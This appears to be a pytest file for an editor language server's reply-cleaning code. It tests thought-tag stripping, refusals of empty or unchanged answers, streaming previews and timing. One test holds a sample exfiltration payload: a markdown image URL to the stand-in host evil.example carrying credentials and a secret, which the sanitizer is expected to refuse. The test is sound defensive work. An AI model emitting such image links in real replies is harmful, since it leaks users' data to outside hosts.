"""Replies: the tables of cases, and what the functions promise beyond them."""

import contextlib
import time

import pytest

from groq_lsp.actions import built_in
from groq_lsp.document_types import DocumentType
from groq_lsp.errors import ReplyEmpty, ReplyError, ReplyUnchanged, ReplyUnsafe
from groq_lsp.replies import clean, prepare, visible
from tests.cases import (
    replies_chatter,
    replies_envelopes,
    replies_languages,
    replies_marks,
    replies_refused,
    replies_shape,
    replies_thinking,
    replies_wrapping,
)
from tests.cases.case import Case

TABLES = (
    replies_thinking,
    replies_wrapping,
    replies_chatter,
    replies_envelopes,
    replies_languages,
    replies_marks,
    replies_shape,
    replies_refused,
)
CASES = [case for table in TABLES for case in table.CASES]
ACTIONS = {action.id: action for action in built_in()}
ANSWERED = [case for case in CASES if isinstance(case.after, str)]


def names(cases: list[Case]) -> list[str]:
    return [f"{number}: {case.reason}" for number, case in enumerate(cases)]


def cleaned(case: Case, reply: str | None = None) -> str:
    return clean(
        case.reply if reply is None else reply,
        passage=case.before,
        action=ACTIONS[case.action],
        document_type=DocumentType(case.document_type),
        language_id=case.language_id,
        line_ending=case.line_ending,
    )


@pytest.mark.parametrize("case", CASES, ids=names(CASES))
def test_a_reply_becomes_what_the_writer_expects(case: Case) -> None:
    if isinstance(case.after, str):
        assert cleaned(case) == case.after
    else:
        with pytest.raises(case.after):
            cleaned(case)


@pytest.mark.parametrize("case", ANSWERED, ids=names(ANSWERED))
def test_a_clean_reply_stays_as_it_is(case: Case) -> None:
    assert isinstance(case.after, str)
    assert cleaned(case, case.after) == case.after


@pytest.mark.parametrize("action", ACTIONS.values(), ids=ACTIONS)
def test_the_example_of_each_action_passes_unchanged(action) -> None:
    assert action.examples
    for example in action.examples:
        if action.reply == "json":
            continue
        kind = DocumentType(example.document_type)
        after = clean(example.after, passage=example.before, action=action, document_type=kind)
        assert after == example.after


def test_the_table_covers_the_scripts_and_documents_that_were_promised() -> None:
    texts = "".join(case.before + case.reply for case in CASES)
    for script in ("我", "は", "ا", "좋", "и", "ü", "é", "👩"):
        assert script in texts
    kinds = {case.document_type for case in CASES}
    assert kinds >= {"markdown", "latex", "plaintext", "code", "html", "org", "asciidoc"}
    assert len(CASES) >= 200
    assert all(case.reason for case in CASES)


def test_a_refused_character_is_named() -> None:
    """S14"""
    with pytest.raises(ReplyUnsafe, match=r"U\+202E \(RIGHT-TO-LEFT OVERRIDE\)"):
        cleaned(Case("", "We was late.", "We were \u202elate.", ""))


def test_an_image_is_named_by_its_host_and_nothing_else() -> None:
    with pytest.raises(ReplyUnsafe, match=r"an image from evil\.example,") as caught:
        cleaned(Case("", "Text.", "Other. ![](https://user:pw@evil.example/?q=the+secret)", ""))
    assert "secret" not in caught.value.sentence
    assert "pw" not in caught.value.sentence


@pytest.mark.parametrize("reply", ["", " ", "\n\n", "<think></think>", "```\n```"])
def test_nothing_is_not_an_answer(reply: str) -> None:
    """H10"""
    with pytest.raises(ReplyEmpty):
        cleaned(Case("", "Some text.", reply, ""))


def test_only_an_answer_that_replaces_the_text_is_refused_for_being_the_same() -> None:
    same = Case("", "It rains.", "It rains.", "")
    with pytest.raises(ReplyUnchanged):
        cleaned(same)
    kind = DocumentType.MARKDOWN
    below = clean("It rains.", passage="It rains.", action=ACTIONS["summarise"], document_type=kind)
    assert below == "It rains."


def test_where_the_answer_goes_decides_its_shape() -> None:
    passage = "- We was late.\n"
    kind, action = DocumentType.MARKDOWN, ACTIONS["rewrite"]
    assert clean("On time.", passage=passage, action=action, document_type=kind) == "- On time.\n"
    below = clean("On time.", passage=passage, action=action, document_type=kind, place="below")
    assert below == "On time."


@pytest.mark.parametrize(
    ("passage", "reply", "after"),
    [
        ("The ferry was late again", "The ferry was late again and we waited.", "and we waited."),
        ("It rained. The ferry was late", "The ferry was late, as always.", ", as always."),
        ("The ferry was late", "and we waited.", "and we waited."),
        ("very", "very late", "very late"),
        (
            "渡轮又晚点了，等它来的时候天已经黑了",
            "等它来的时候天已经黑了，我们还在等。",
            "，我们还在等。",
        ),
    ],
)
def test_a_continuation_does_not_say_the_text_again(passage: str, reply: str, after: str) -> None:
    kind = DocumentType.MARKDOWN
    text = clean(reply, passage=passage, action=ACTIONS["continue"], document_type=kind)
    assert text.strip() == after


SO_FAR = [
    ("nothing has come", "", ""),
    ("half an opening tag", "<thi", ""),
    ("thoughts under way", "<think>The word", ""),
    ("half a closing tag", "<think>The word</thi", ""),
    ("the answer begins", "<think>The word</think>\n\nWe were", "We were"),
    ("an answer without thoughts", "We were", "We were"),
    ("a second thought begins", "We were late.<thin", "We were late."),
    ("a second thought is under way", "We were late.<think>no", "We were late."),
    ("mathematics", "a <", "a "),
    ("mathematics goes on", "a < b", "a < b"),
    ("an HTML tag is no thought", "a <b>", "a <b>"),
    ("our own tag", "<text-1a2b3c4d>\nWe were", "We were"),
    ("raw channels", "<|channel|>analysis<|message|>Fix", ""),
    ("the final channel", "<|channel|>final<|message|>We were", "We were"),
]


@pytest.mark.parametrize(
    ("raw", "shown"), [row[1:] for row in SO_FAR], ids=[row[0] for row in SO_FAR]
)
def test_what_is_shown_while_an_answer_arrives(raw: str, shown: str) -> None:
    assert visible(raw) == shown


@pytest.mark.parametrize("case", replies_thinking.CASES, ids=names(replies_thinking.CASES))
def test_thoughts_never_show_however_the_stream_is_split(case: Case) -> None:
    if "</think>" in case.reply and "<think>" not in case.reply:
        pytest.skip("an end without a beginning is only known when it comes")
    if "<think>" in case.before:
        pytest.skip("the preview does not know the text")
    thoughts = ("misspelt", "Hm.", "spelling", "plan", "Was that", "now two", "丁寧", "Fix")
    for length in range(len(case.reply) + 1):
        shown = visible(case.reply[:length])
        assert not any(thought in shown for thought in thoughts), shown


def test_preparing_compiles_every_pattern_and_nothing_else() -> None:
    prepare()


def test_every_failure_is_a_sentence_for_the_user() -> None:
    for case in CASES:
        if isinstance(case.after, str):
            continue
        with pytest.raises(ReplyError) as caught:
            cleaned(case)
        sentence = caught.value.sentence
        assert sentence[0].isupper() and sentence.endswith("."), sentence
        assert "\n" not in sentence


ENDLESS = (
    " ", "\n", "　", "---\n", '{"', "```\n", "<think>", "</think>", "</s>", "<|im_end|>\n", '"',
    "`", "**a** ", "[x](", "![", "<p>", "> ", "- ", "Sure! ", "Here is ", "**Original:** ",
    "changes:\n", "\n\nNote: ", "\\documentclass \\begin{document} ", "analysis", "以下は",
)  # fmt: skip


@pytest.mark.parametrize("piece", ENDLESS)
def test_no_answer_takes_long_to_clean_or_to_show(piece: str) -> None:
    endless = piece * (20_000 // len(piece))
    for text in (endless, f"The ferry. {endless} The end."):
        begun = time.process_time()
        visible(text)
        shown = time.process_time()
        with contextlib.suppress(ReplyError):
            cleaned(Case("", "We was late.", text, ""))
        assert shown - begun < 0.5
        assert time.process_time() - shown < 2.0
